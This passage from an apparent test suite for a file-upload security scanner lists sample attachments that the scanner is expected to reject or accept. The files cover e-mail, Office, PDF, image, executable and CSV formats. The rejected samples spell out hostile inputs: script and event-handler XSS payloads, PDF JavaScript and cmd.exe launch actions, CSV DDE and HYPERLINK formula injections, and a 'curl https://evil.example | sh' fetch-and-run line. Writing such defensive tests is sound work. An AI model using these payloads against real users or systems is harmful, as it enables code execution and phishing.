        "whose name does not match",
    ),
    (
        "eml-script-in-html",
        "mail.eml",
        lambda: eml_alternative("<html><body><p>Hej</p><script>alert(1)</script></body></html>"),
        "contains script",
    ),
    (
        "eml-event-handler",
        "mail.eml",
        lambda: eml_alternative('<html><body><img src="x" onerror="alert(1)"></body></html>'),
        "event handlers",
    ),
    (
        "eml-event-unquoted",
        "mail.eml",
        lambda: eml_alternative("<html><body><img src=x/onerror=alert(1)></body></html>"),
        "event handlers",
    ),
    (
        "eml-javascript-url",
        "mail.eml",
        lambda: eml_alternative('<a href="jav&#x61;&#10;script:alert(1)">x</a>'),
        "javascript:",
    ),
    (
        "eml-iframe",
        "mail.eml",
        lambda: eml_alternative('<p>Hej</p><iframe src="https://evil.example/"></iframe>'),
        "embedded frames",
    ),
    (
        "eml-form",
        "mail.eml",
        lambda: eml_alternative('<form action="https://evil.example/"><input name=p></form>'),
        "a form",
    ),
    (
        "eml-script-in-outlook",
        "mail.eml",
        lambda: eml_outlook(html=OUTLOOK_HTML.replace("</body>", "<script>x()</script></body>")),
        "contains script",
    ),
    (
        "eml-script-in-text",
        "mail.eml",
        lambda: eml_with_attachment("a.pdf", pdf_bytes()).replace(b"Se bifogad fil.", b"<script>alert(1)</script>"),
        "text contains web page",
    ),
    ("eml-encrypted", "mail.eml", eml_encrypted, "encrypted"),
    # --- Outlook .msg
    (
        "msg-fake-bytes",
        "mail.msg",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + _unicode("__substg1.0_0037001F") + b"\x00" * 64,
        "damaged",
    ),
    (
        "msg-fake-ole",
        "mail.msg",
        lambda: cfb({"Contents": _unicode("__substg1.0_0037001F __properties_version1.0") * 8}),
        "not one of the allowed types",
    ),
    (
        "msg-fake-doc",
        "mail.msg",
        lambda: cfb(
            {
                "WordDocument": b"\xec\xa5" + _unicode("__substg1.0_001A001F IPM.Note") * 8,
                "Macros": {"VBA": {"dir": b"x"}},
            }
        ),
        "contains macros",
    ),
    ("msg-no-properties", "mail.msg", lambda: msg_bytes(properties=False), "not a complete one"),
    ("msg-not-ipm", "mail.msg", lambda: msg_bytes(message_class="Malware.Class"), "not a complete one"),
    (
        "msg-macros",
        "mail.msg",
        lambda: msg_bytes(extra={"Macros": {"VBA": {"_VBA_PROJECT": b"\xcc\x61"}}}),
        "contains macros",
    ),
    (
        "msg-html-script",
        "mail.msg",
        lambda: msg_bytes(html="<html><body>Hej<script>alert(1)</script></body></html>"),
        "contains script",
    ),
    (
        "msg-html-handler",
        "mail.msg",
        lambda: msg_bytes(html='<html><body onload="alert(1)">Hej</body></html>'),
        "event handlers",
    ),
    (
        "msg-exe-attachment",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_attachment("setup.exe", _EXE, mime="application/x-msdownload")]),
        "“setup.exe” that is a program",
    ),
    (
        "msg-exe-as-pdf",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_attachment("report.pdf", _EXE)]),
        "“report.pdf” that is a program",
    ),
    (
        "msg-html-attachment",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_attachment("login.htm", b"<html></html>", mime="text/html")]),
        "“login.htm” that is a web page",
    ),
    (
        "msg-embedded-message",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_embedded_message()]),
        "that is itself an e-mail",
    ),
    (
        "msg-by-reference",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_attachment("payload.exe", None, method=2)]),
        "only a link",
    ),
    # --- older Office and other compound files
    ("doc", "old.doc", lambda: _ole_doc(False), "older Office files (.doc, .xls, .ppt) are not accepted"),
    ("doc-macros", "old.doc", lambda: _ole_doc(True), "contains macros"),
    ("xls", "old.xls", lambda: _ole_xls(False), "older Office files"),
    ("xls-macros", "old.xls", lambda: _ole_xls(True), "contains macros"),
    ("ppt", "old.ppt", lambda: _ole_ppt(False), "older Office files"),
    ("ppt-macros", "old.ppt", lambda: _ole_ppt(True), "contains macros"),
    (
        "msi",
        "setup.pdf",
        lambda: cfb({"\u4840\u3f3f": b"x" * 100}, root_clsid="000C1084-0000-0000-C000-000000000046"),
        "is a program",
    ),
    # --- Office Open XML
    ("docm", "ack.docm", lambda: office_macro("docx"), "documents with macros"),
    ("xlsm", "usage.xlsx", lambda: office_macro("xlsx"), "documents with macros"),
    ("pptm", "deck.pptx", lambda: office_macro("pptx"), "documents with macros"),
    (
        "docx-vbaproject",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "documents with macros",
    ),
    (
        "xlsx-macrosheet",
        "usage.xlsx",
        lambda: office_bytes("xlsx", extra={"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
        "documents with macros",
    ),
    (
        "docx-activex",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/activeX/activeX1.bin": b"\x00" * 10}),
        "ActiveX",
    ),
    ("docx-remote-template", "ack.docx", docx_remote_template, "from another place"),
    (
        "docx-zip-bomb",
        "bomb.docx",
        lambda: office_bytes("docx", extra={"word/media/zeros.bin": b"\x00" * (30 * 1024 * 1024)}),
        "unsafe size",
    ),
    (
        "docx-nested-zip",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/media/payload.zip": _plain_zip()}),
        "hidden inside",
    ),
    (
        "docx-nested-exe",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/media/image1.png": _EXE}),
        "hidden inside",
    ),
    (
        "docx-embedded-xlsm",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/embeddings/Book1.xlsm": office_macro("xlsx")}),
        "documents with macros",
    ),
    (
        "docx-ole-package",
        "ack.docx",
        lambda: office_bytes("docx", extra={"word/embeddings/oleObject1.bin": _ole_package()}),
        "object package",
    ),
    ("zip-as-docx", "files.docx", _plain_zip, "compressed archive"),
    # --- PDF
    (
        "pdf-openaction-js",
        "a.pdf",
        lambda: pdf_doc(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
        "contains JavaScript",
    ),
    (
        "pdf-openaction-uri",
        "a.pdf",
        lambda: pdf_doc(catalog=b"/OpenAction 6 0 R ", extra=[b"<< /S /URI /URI (https://evil.example/) >>"]),
        "opens a web address",
    ),
    (
        "pdf-openaction-launch",
        "a.pdf",
        lambda: pdf_doc(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
        "starts a program",
    ),
    (
        "pdf-names-javascript",
        "a.pdf",
        lambda: pdf_doc(
            catalog=b"/Names << /JavaScript 6 0 R >> ",
            extra=[b"<< /Names [(x) 7 0 R] >>", b"<< /S /JavaScript /JS 8 0 R >>", pdf_stream(b"app.alert(1)")],
        ),
        "contains JavaScript",
    ),
    ("pdf-aa", "a.pdf", lambda: pdf_doc(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> "), "automatic actions"),
    (
        "pdf-launch-annotation",
        "a.pdf",
        lambda: _pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"
        ),
        "starts a program",
    ),
    (
        "pdf-js-annotation",
        "a.pdf",
        lambda: _pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (app.alert(1)) >> >>"
        ),
        "contains JavaScript",
    ),
    (
        "pdf-js-hex-name",
        "a.pdf",
        lambda: _pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"
        ),
        "contains JavaScript",
    ),
    (
        "pdf-js-orphan",
        "a.pdf",
        lambda: pdf_doc(extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"]),
        "contains JavaScript",
    ),
    (
        "pdf-submitform",
        "a.pdf",
        lambda: _pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F (https://evil.example/) >> >>"
        ),
        "sends or imports data",
    ),
    (
        "pdf-embedded-file",
        "a.pdf",
        lambda: pdf_doc(
            catalog=b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> ",
            extra=[b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>", pdf_stream(_EXE, b"/Type /EmbeddedFile ")],
        ),
        "embedded files",
    ),
    (
        "pdf-file-attachment",
        "a.pdf",
        lambda: _pdf_with_annotation(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (x.exe) >>"),
        "embedded files",
    ),
    (
        "pdf-richmedia",
        "a.pdf",
        lambda: _pdf_with_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        "multimedia",
    ),
    (
        "pdf-xfa",
        "a.pdf",
        lambda: pdf_doc(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ", extra=[pdf_stream(b"<xdp:xdp/>")]),
        "XFA",
    ),
    (
        "pdf-html-after-eof",
        "a.pdf",
        lambda: pdf_bytes() + b"<html><body><script>alert(document.cookie)</script></body></html>\n",
        "web page (HTML)",
    ),
    (
        "pdf-script-after-eof",
        "a.pdf",
        lambda: pdf_bytes() + b"alert(document.cookie); // not a comment\n" * 3,
        "extra content after its end",
    ),
    ("pdf-big-junk-after-eof", "a.pdf", lambda: pdf_bytes() + _big_random(200_000), "extra content after its end"),
    (
        "pdf-html-in-header",
        "a.pdf",
        lambda: pdf_doc().replace(b"%\xe2\xe3\xcf\xd3\n", b"%<html><script>alert(1)</script>\n", 1),
        "web page (HTML)",
    ),
    ("html-before-pdf", "a.pdf", lambda: b"<html><body><script>alert(1)</script>" + pdf_bytes(), "web page (HTML)"),
    ("pdf-truncated", "a.pdf", lambda: pdf_multipage()[:-200], "damaged"),
    ("pdf-no-xref", "a.pdf", lambda: b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "damaged"),
    ("pdf-password", "a.pdf", lambda: pdf_encrypted("secret"), "protected with a password"),
    ("html-as-pdf", "report.pdf", lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "web page (HTML)"),
    ("exe-as-pdf", "scan.pdf", lambda: _EXE, "is a program"),
    # --- images
    (
        "svg-as-png",
        "chart.png",
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "SVG",
    ),
    ("png-html-appended", "shot.png", lambda: png_bytes() + b"<html><script>alert(1)</script></html>", "after its end"),
    ("jpeg-script-appended", "photo.jpg", lambda: jpeg_bytes() + b"<script>alert(1)</script>", "after its end"),
    ("jpeg-big-trailer", "photo.jpg", lambda: jpeg_bytes() + b"A" * 5000, "after its end"),
    ("png-truncated", "shot.png", lambda: png_bytes()[:-12], "damaged"),
    ("gif", "anim.gif", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "GIF"),
    # --- programs, scripts, archives
    ("elf", "tool.txt", lambda: _ELF, "is a program"),
    ("macho", "tool.pdf", lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64, "is a program"),
    ("shell-script", "notes.txt", lambda: b"#!/bin/sh\ncurl https://evil.example | sh\n", "is a script"),
    ("rar", "files.docx", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "compressed archive"),
    ("iso", "disk.pdf", _iso, "disk image"),
    ("rtf", "notes.txt", lambda: rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105}}}", "RTF"),
    # --- text
    ("text-markup-after-1k", "notes.txt", lambda: text_with_markup_at(2000), "web page (HTML)"),
    ("text-markup-after-1m", "notes.txt", lambda: text_with_markup_at(1024 * 1024 + 100), "web page (HTML)"),
    ("text-markup-on-chunk-edge", "notes.txt", lambda: text_with_markup_at(1024 * 1024 - 3), "web page (HTML)"),
    ("text-nul", "notes.txt", lambda: b"Notes\x00\x01binary", "not one of the allowed types"),
    ("text-latin1", "notes.txt", lambda: "Anteckning från Göteborg".encode("latin-1"), "not one of the allowed types"),
    ("csv-equals-dde", "export.csv", lambda: b"name,amount\nAda,=cmd|' /C calc'!A0\n", "spreadsheet formulas"),
    (
        "csv-plus-hyperlink",
        "export.csv",
        lambda: b'name;link\nAda;+HYPERLINK("https://evil.example","click")\n',
        "spreadsheet formulas",
    ),
    ("csv-minus-dde", "export.csv", lambda: b"a,b\n1,-2+3+cmd|' /C calc'!A0\n", "spreadsheet formulas"),
    ("csv-at-sum", "export.csv", lambda: b"a,b\n1,@SUM(1+9)*cmd|' /C calc'!A0\n", "spreadsheet formulas"),
    ("csv-tab-prefixed", "export.txt", lambda: b"a\tb\n1\t=1+1\n", "spreadsheet formulas"),
    (
        "csv-cr-prefixed",
        "export.txt",
        lambda: b'a,b\n1,x\r=HYPERLINK("https://evil.example")\n',
        "spreadsheet formulas",
    ),
    ("csv-quoted", "export.csv", lambda: b'a,b\n1,"=HYPERLINK(""https://evil.example"")"\n', "spreadsheet formulas"),
    ("csv-first-cell", "export.csv", lambda: b"=SUM(A1:A9)\n", "spreadsheet formulas"),
    (
        "csv-formula-after-1m",
        "export.csv",
        lambda: b"a,b\n1,2\n" * 150_000 + b"3,=cmd|' /C calc'!A0\n",
        "spreadsheet formulas",
    ),
]

BENIGN = [
    ("pdf-simple", "proof.pdf", pdf_bytes, "pdf"),
    ("pdf-text", "ack.pdf", pdf_doc, "pdf"),
    ("pdf-multipage-pypdf", "minutes.pdf", pdf_multipage, "pdf"),
    ("pdf-signed", "signed.pdf", pdf_signed, "pdf"),
    ("pdf-scanned", "scan.pdf", pdf_scanned, "pdf"),
    ("pdf-hyperlink", "report.pdf", pdf_with_link, "pdf"),
    ("pdf-incremental-update", "updated.pdf", pdf_incremental, "pdf"),
    ("pdf-owner-password-only", "restricted.pdf", lambda: pdf_encrypted(""), "pdf"),
    ("png", "screenshot.png", png_bytes, "png"),
    ("jpeg", "photo.jpg", jpeg_bytes, "jpeg"),
    ("jpeg-padded", "photo.jpg", lambda: jpeg_bytes() + b"\x00" * 32, "jpeg"),
    ("docx", "ack.docx", lambda: office_bytes("docx"), "docx"),
    ("docx-with-chart", "report.docx", docx_with_chart, "docx"),
    ("xlsx", "usage.xlsx", lambda: office_bytes("xlsx"), "xlsx"),
    ("pptx", "deck.pptx", lambda: office_bytes("pptx"), "pptx"),
    ("eml-plain", "mail.eml", eml_plain, "eml"),
    ("eml-minimal", "mail.eml", eml_bytes, "eml"),
    ("eml-outlook-alternative-pdf", "mail.eml", eml_outlook, "eml"),
    (
        "eml-calendar-invite",
        "invite.eml",
        lambda: eml_with_attachment("invite.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text", "calendar"),
        "eml",
    ),
    ("eml-smime-signed", "signed.eml", eml_signed, "eml"),
    (
        "msg-pdf-attachment",
        "mail.msg",
        lambda: msg_bytes(html=OUTLOOK_HTML, attachments=[msg_attachment("Protokoll.pdf", pdf_bytes())]),
        "msg",
    ),
    ("msg-plain", "mail.msg", msg_bytes, "msg"),
    (
        "msg-cloud-attachment",
        "mail.msg",
        lambda: msg_bytes(attachments=[msg_attachment("Protokoll.pdf", None, method=7)]),
        "msg",
    ),
    ("text-swedish", "anteckningar.txt", lambda: SWEDISH_NOTES.encode(), "txt"),
    (
        "text-swedish-bom-crlf",
        "anteckningar.txt",
        lambda: b"\xef\xbb\xbf" + SWEDISH_NOTES.replace("\n", "\r\n").encode(),
        "txt",
    ),
    ("text-minus-bullets", "todo.txt", lambda: BULLET_NOTES.encode(), "txt"),
    ("csv-numbers", "timmar.csv", lambda: PLAIN_CSV.encode(), "txt"),
    ("text-long-swedish", "logg.log", lambda: (SWEDISH_NOTES * 30_000).encode(), "txt"),
    ("text-starts-like-bmp", "bmw.txt", lambda: b"BMW-projektet startade i mars.\n" + SWEDISH_NOTES.encode(), "txt"),
    ("text-starts-like-exe", "mz.txt", lambda: b"MZ Consulting AB, protokoll\n" + SWEDISH_NOTES.encode(), "txt"),
    ("text-starts-like-mp3", "id3.txt", lambda: b"ID3-granskningen klar.\n" + SWEDISH_NOTES.encode(), "txt"),
]
